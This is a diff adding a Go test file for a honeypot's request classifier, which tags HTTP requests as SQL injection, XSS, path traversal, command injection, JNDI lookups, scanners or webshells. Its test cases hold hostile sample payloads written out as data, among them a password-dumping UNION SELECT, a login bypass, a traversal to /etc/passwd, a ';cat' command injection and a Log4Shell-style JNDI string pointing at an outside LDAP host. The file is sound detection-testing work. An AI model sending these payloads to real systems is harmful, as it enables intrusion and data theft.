@@ -0,0 +1,69 @@
+package llm_test
+
+import (
+	"context"
+	"io"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/0x4d31/galah/pkg/llm"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"github.com/tmc/langchaingo/llms"
+)
+
+func TestClassifyPayload(t *testing.T) {
+	signatures, err := llm.NewPayloadSignatures(map[string][]string{"webshell": {`(?i)\bc99\.php\b`}})
+	require.NoError(t, err)
+
+	tests := []struct {
+		name      string
+		uri       string
+		body      string
+		userAgent string
+		want      []string
+	}{
+		{"benign", "/index.php?id=5&page=2", "", "Mozilla/5.0", nil},
+		{"sqli", "/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users", "", "", []string{llm.PayloadSQLi}},
+		{"sqliBoolean", "/login", "user=admin' OR '1'='1&pass=x", "", []string{llm.PayloadSQLi}},
+		{"xss", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "", []string{llm.PayloadXSS}},
+		{"doubleEncodedTraversal", "/static/%252e%252e%252f%252e%252e%252fetc/passwd", "", "", []string{llm.PayloadPathTraversal}},
+		{"rce", "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/hosts", "", "", []string{llm.PayloadRCE}},
+		{"jndi", "/", "", "${jndi:ldap://203.0.113.1/a}", []string{llm.PayloadJNDI}},
+		{"scanner", "/item.php?id=1%20AND%201=1", "", "sqlmap/1.7.2#stable (https://sqlmap.org)", []string{llm.ScannerTagPrefix + "sqlmap", llm.PayloadSQLi}},
+		{"custom", "/uploads/c99.php", "", "", []string{"webshell"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := httptest.NewRequest("POST", tt.uri, strings.NewReader(tt.body))
+			if tt.userAgent != "" {
+				r.Header.Set("User-Agent", tt.userAgent)
+			}
+			got, err := llm.ClassifyPayload(r, signatures)
+			require.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+
+			body, err := io.ReadAll(r.Body)
+			require.NoError(t, err)
+			assert.Equal(t, tt.body, string(body), "the body is restored")
+		})
+	}
+}
+
+func TestNewPayloadSignaturesInvalid(t *testing.T) {
+	_, err := llm.NewPayloadSignatures(map[string][]string{"broken": {"("}})
+	assert.Error(t, err)
+}
+
+func TestClassifyPayloadLLM(t *testing.T) {
+	model := &MockModel{
+		GenerateContentFunc: func(ctx context.Context, messages []llms.MessageContent, opts ...llms.CallOption) (*llms.ContentResponse, error) {
+			return &llms.ContentResponse{Choices: []*llms.ContentChoice{{Content: "SSTI, rce, made_up, rce."}}}, nil
+		},
+	}
+	r := httptest.NewRequest("GET", "/render?tpl=x", nil)
+	got, err := llm.ClassifyPayloadLLM(context.Background(), model, r)
+	require.NoError(t, err)
+	assert.Equal(t, []string{llm.PayloadSSTI, llm.PayloadRCE}, got)
+}